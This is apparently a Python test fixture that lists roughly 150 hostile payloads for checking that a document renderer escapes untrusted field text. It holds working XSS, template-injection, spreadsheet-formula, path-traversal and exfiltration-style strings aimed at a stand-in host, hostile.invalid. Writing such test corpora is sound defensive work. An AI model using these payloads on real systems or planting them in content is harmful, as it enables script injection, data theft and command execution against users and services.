"""150 hostile texts by family, and the three forms that a field sees each in: straight quotes, curly quotes, none.

Whatever would act is seen if it does: it calls `alert` with its number, asks for an address at hostile.invalid, or
makes an element of a class `hostile-<number>`. Each says `hxq<number>`, by which its text is found where it should be
shown.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum
from functools import cache
from itertools import cycle
from pathlib import Path

CANARY = Path("/tmp/trustbook-hostile-canary.txt")
"""A file that no page may show: payloads ask for it by name."""
CANARY_SAYS = "canary 7f3a91 was read from the disk"
HOST = "hostile.invalid"
NUMBER = "§"
"""Stands in a payload for the number of the field and variant that it is planted as."""
VARIANTS = 1000
"""More than there are: a number is that of the field times this, and that of the variant."""
MARKER = re.compile(r"hxq(\d{6})")


class Place(StrEnum):
    """Where a payload must stand in a text with others: it would else mean nothing, or swallow them."""

    ANYWHERE = "anywhere"
    START = "start"
    END = "end"
    WHOLE = "whole"


class Form(StrEnum):
    """The quotation marks that a payload is written with."""

    STRAIGHT = "straight"
    CURLY = "curly"
    NONE = "none"


@dataclass(frozen=True)
class Payload:
    """One hostile text. `text` has NUMBER wherever its number goes."""

    family: str
    text: str
    place: Place = Place.ANYWHERE


@dataclass(frozen=True)
class Variant:
    """A payload in one form; `number` tells it from all others."""

    payload: Payload
    form: Form
    number: int

    def planted(self, field: int) -> str:
        """Write it as planted in a field, with the number by which it is known."""
        return _in_form(_marked(self.payload), self.form).replace(NUMBER, f"{field * VARIANTS + self.number:06d}")


def _marked(payload: Payload) -> str:
    if "hxq" in payload.text:
        return payload.text
    mark = f'"hxq{NUMBER}"'
    return f"{mark} {payload.text}" if payload.place is Place.END else f"{payload.text} {mark}"


def _in_form(text: str, form: Form) -> str:
    if form is Form.STRAIGHT:
        return text
    if form is Form.NONE:
        return text.replace('"', "").replace("'", "")
    double, single = cycle("“”"), cycle("‘’")
    return "".join(next(double) if mark == '"' else next(single) if mark == "'" else mark for mark in text)


@cache
def variants() -> tuple[Variant, ...]:
    """Every payload in every form."""
    forms = [(payload, form) for payload in PAYLOADS for form in Form]
    return tuple(Variant(payload, form, number) for number, (payload, form) in enumerate(forms))


def variant_of(number: int) -> tuple[int, Variant]:
    """Tell from the number of something planted the number of its field and the variant."""
    field, variant = divmod(number, VARIANTS)
    return field, variants()[variant]


_RUN = "alert(§)"
_URL = f"http://{HOST}/§"
_FILE = f"file://{CANARY}"
_ID = "class=hostile-§"

_ANYWHERE: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{_RUN}</script>",
        f"<SCRIPT {_ID}>{_RUN}</SCRIPT>",
        f"<ScRiPt\t{_ID}>{_RUN}</sCrIpT >",
        f'<script {_ID} src="{_URL}.js"></script>',
        f"<script/{_ID}>{_RUN}</script>",
        f'<script type="module" {_ID}>{_RUN}</script>',
        f"<scr<script>ipt {_ID}>{_RUN}</scr</script>ipt>",
        f'<script type="application/json" {_ID}>{{}}</script><script {_ID}>{_RUN}</script>',
        f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    ),
    "handler": (
        f'<img src="x-§" onerror="{_RUN}" {_ID}>',
        f"<img src=x-§ onerror={_RUN} {_ID}>",
        f'<body onload="{_RUN}" {_ID}>',
        f'<details open ontoggle="{_RUN}" {_ID}><summary>s</summary></details>',
        f'<input autofocus onfocus="{_RUN}" {_ID}>',
        f'<div onpointerover="{_RUN}" {_ID}>over</div>',
        f'<style {_ID} onload="{_RUN}"></style>',
    ),
    "svg": (
        f'<svg {_ID} onload="{_RUN}"></svg>',
        f"<svg {_ID}><script>{_RUN}</script></svg>",
        f'<svg {_ID}><a xlink:href="javascript:{_RUN}"><text>t</text></a></svg>',
        f'<svg {_ID}><animate onbegin="{_RUN}" attributeName="x" dur="1s"></animate></svg>',
        f'<svg {_ID}><foreignObject><img src="x-§" onerror="{_RUN}"></foreignObject></svg>',
        f'<svg {_ID}><image href="{_URL}.png"></image></svg>',
        f'<math {_ID}><mtext><img src="x-§" onerror="{_RUN}"></mtext></math>',
    ),
    "frame": (
        f'<iframe {_ID} src="{_FILE}"></iframe>',
        f'<iframe {_ID} srcdoc="<script>parent.{_RUN}</script>"></iframe>',
        f'<iframe {_ID} src="javascript:parent.{_RUN}"></iframe>',
        f'<iframe {_ID} src="{_URL}"></iframe>',
        f'<object {_ID} data="{_FILE}"></object>',
        f'<object {_ID} data="data:text/html,<script>{_RUN}</script>"></object>',
        f'<embed {_ID} src="{_FILE}">',
    ),
    "head": (
        f'<meta {_ID} http-equiv="refresh" content="0;url={_URL}">',
        f'<meta {_ID} http-equiv="Content-Security-Policy" content="default-src *; script-src \'unsafe-inline\'">',
        f'<base {_ID} href="{_URL}/">',
        f'<link {_ID} rel="stylesheet" href="{_URL}.css">',
        f'<form {_ID} action="{_URL}"><button>Send</button></form>',
        f'"><meta {_ID} http-equiv="refresh" content="0;url={_URL}">',
        f"default-src *; script-src 'unsafe-inline' {_URL}; report-uri {_URL}",
    ),
    "style": (
        f'<style {_ID}>@import "{_URL}.css";</style>',
        f"<style {_ID}>body{{background:url({_URL}.png)}}</style>",
        f'<div {_ID} style="background:url({_URL}.png)">d</div>',
        f";}}*{{background:url({_URL}.png)}}",
        f'"; background: url("{_URL}.png"); x: "',
    ),
    "attribute": (
        f'" onmouseover="{_RUN}" {_ID} x="',
        f"' onmouseover='{_RUN}' {_ID} x='",
        f" onmouseover={_RUN} {_ID} x=",
        f"` onmouseover=`{_RUN}` {_ID} x=`",
        f'"><img src="x-§" onerror="{_RUN}" {_ID}>',
        f"'><img src='x-§' onerror='{_RUN}' {_ID}>",
        f"><img src=x-§ onerror={_RUN} {_ID}>",
        f'" autofocus tabindex="1" onfocus="{_RUN}" {_ID} x="',
        f'" style="background:url({_URL}.png)" {_ID} x="',
    ),
    "closing": (
        f"</script><script {_ID}>{_RUN}</script>",
        f"</style><script {_ID}>{_RUN}</script>",
        f"</title><script {_ID}>{_RUN}</script>",
        f"</textarea><script {_ID}>{_RUN}</script>",
        f"--><script {_ID}>{_RUN}</script>",
        f"]]><script {_ID}>{_RUN}</script>",
        f"</svg><img src=x-§ onerror={_RUN} {_ID}>",
        f"</td></tr></table></div></main><img src=x-§ onerror={_RUN} {_ID}>",
    ),
    "entities": (
        f"&lt;script {_ID}&gt;{_RUN}&lt;/script&gt;",
        f"&amp;lt;script {_ID}&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
        f"&#60;img src=x-§ onerror={_RUN} {_ID}&#62;",
        f"&#x3c;img src=x-§ onerror={_RUN} {_ID}&#x3e;",
        f"&quot; onmouseover=&quot;{_RUN}&quot; {_ID} x=&quot;",
        f"＜script {_ID}＞{_RUN}＜/script＞",
    ),
    "markdown": (
        f"[link](javascript:{_RUN})",
        f'[link]({_URL} "title")',
        f"![image]({_URL}.png)",
        f"<{_URL}>",
        f"{_URL} and www.{HOST}",
        "**bold** *emphasis* _under_ ~~gone~~ `code` hxq§",
        f"[link]: {_URL}",
        f"[see][hx§] [hx§]: javascript:{_RUN}",
        f"`` ` `` <b {_ID}>b</b>",
        "text  \\\\ | cell | cell | hxq§ \\| \\",
    ),
    "myst": (
        f"{{raw}}`html <img src=x-§ onerror={_RUN} {_ID}>`",
        f"{{download}}`words <{CANARY}>`",
        "{doc}`words <../../index>` {ref}`hx§` {term}`Variance`",
        "{{ hx§ }} {{ env.config }}",
        "$\\href{javascript:alert(§)}{x}$ and $$\\frac{1}{2}$$",
        "[^hx§] and (hx§)= and {eval}`period`",
        "{sub-ref}`today` {abbr}`AB (hx§)` {kbd}`x`",
    ),
    "template": (
        "{{ 7*7 }} {{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% include '/etc/hostname' %} {% raw %}",
        "{0.__class__} {value} {row} {row[note]!r} {} {{}}",
        "%(value)s %s ${HOME} $HOME #{7*7} <%= 7*7 %>",
        "/*EDITIONS*/[] <!--EDITIONS--> {title} {{ title }}",
    ),
    "vega": (
        "datum['x'] || datum.label == 'hx§'",
        '"); alert(§); ("',
        f"'+warn(datum)+' {{url: '{_URL}'}}",
        f'{{"url":"{_URL}.json","href":"{_URL}"}}',
        "value.x[0] \\u0022 \\n a.b\\.c['d']",
    ),
    "script data": (
        '";alert(§)//',
        "';alert(§)//",
        "\\';alert(§)//",
        "`;${alert(§)}`",
        "\\u2028alert(§)\\u2029 x",  # the characters themselves are refused at the gate
        '"}]});alert(§);({"a":[{"b":"',
        '</script>\\"},{"x":"<!--<script>',
    ),
    "xml": (
        f"]]><script {_ID}>{_RUN}</script><![CDATA[",
        f'<?xml-stylesheet href="{_URL}.xsl"?>',
        "&nbsp; &undefined; & && &#0; &#xD800;",
        f'<entry xmlns="http://www.w3.org/2005/Atom"><id>{_URL}</id></entry>',
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml' {_ID}>{_RUN}</x:script>",
    ),
    "our marks": (
        "<!-- tb-mark note --> <!--set aside 0--> <!--set aside 1-->",
        "\\0 0 \\0 \\x000\\x00 \\u0000",
        "tb-mark tb-term tb-figure data-tb hxq§",
        "not reported; not held; TBC; n/a; nil; - hxq§",
    ),
    "console": (
        "[bold red]bold[/bold red] [link=http://hostile.invalid/§]link[/link]",
        "[/] [/bold] [not a tag] \\[x] :smile:",
        "\\x1b[31mred\\x1b[0m \\033]0;title\\007 \\u001b[2J",
    ),
    "path": (
        "../../../../../../etc/hostname hxq§",
        f"{_FILE} hxq§",
        "//hostile.invalid/§ hxq§",
    ),
}

_START: dict[str, tuple[str, ...]] = {
    "formula": (
        '=cmd|"/C calc"!A1',
        '@SUM(1+1)*cmd|"/C calc"!A1',
        '+HYPERLINK("http://hostile.invalid/§","x")',
        "-2+3+cmd|' /C calc'!A0",
        '{=SUM("1","2")}',
    ),
    "markdown block": (
        f"# Heading <b {_ID}>b</b>",
        f"- item <b {_ID}>b</b>",
        "| a | b | hxq§ |",
        "~~~ code hxq§",
        f"<div {_ID}>block</div>",
        "(hx§)= hxq§",
    ),
    "rst": (
        f".. raw:: html <img src=x-§ onerror={_RUN} {_ID}>",
        f":raw-html:`<b {_ID}>b</b>` |hx§| hx§_ :doc:`index`",
        f".. include:: {CANARY}",
    ),
}

_END: dict[str, tuple[str, ...]] = {
    "unclosed": (
        "<!--",
        "<!-- --!> <!-->",
        f"<textarea {_ID}>",
        f"<plaintext {_ID}>",
        f"<script {_ID}>",
        f"<style {_ID}>",
        f'<img {_ID} alt="',
        f"<a {_ID} href=",
        "<![CDATA[",
        "%} {# {{ ${ $$ ` [",
    ),
}

_WHOLE: dict[str, tuple[str, ...]] = {
    "formula": (
        '=HYPERLINK("http://hostile.invalid/§","hxq§")',
        '=WEBSERVICE("http://hostile.invalid/hxq§")',
    ),
    "gptables": (
        "[hxq§](http://hostile.invalid/§)",
        f"[hxq§]({_FILE})",
        "[hxq§](javascript:alert(§))",
        "$$hxq§$$ [note hxq§]",
    ),
    "fenced": (
        f"```{{raw}} html hxq§\n<img src=x-§ onerror={_RUN} {_ID}>\n```",
        f"```{{include}} {CANARY}\n```\nhxq§",
        f"```{{literalinclude}} {CANARY}\n```\nhxq§",
        f"hxq§\n\n<img src=x-§ onerror={_RUN} {_ID}>\n\n",
        ":::{admonition} hxq§\n:class: hostile-§\nwords\n:::",
        "% comment hxq§",
    ),
}

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(family, text, place)
    for place, families in (
        (Place.ANYWHERE, _ANYWHERE),
        (Place.START, _START),
        (Place.END, _END),
        (Place.WHOLE, _WHOLE),
    )
    for family, texts in families.items()
    for text in texts
)


def by_family() -> Iterator[tuple[str, int]]:
    """Give each family and how many payloads it has."""
    families = [payload.family for payload in PAYLOADS]
    return ((family, families.count(family)) for family in dict.fromkeys(families))
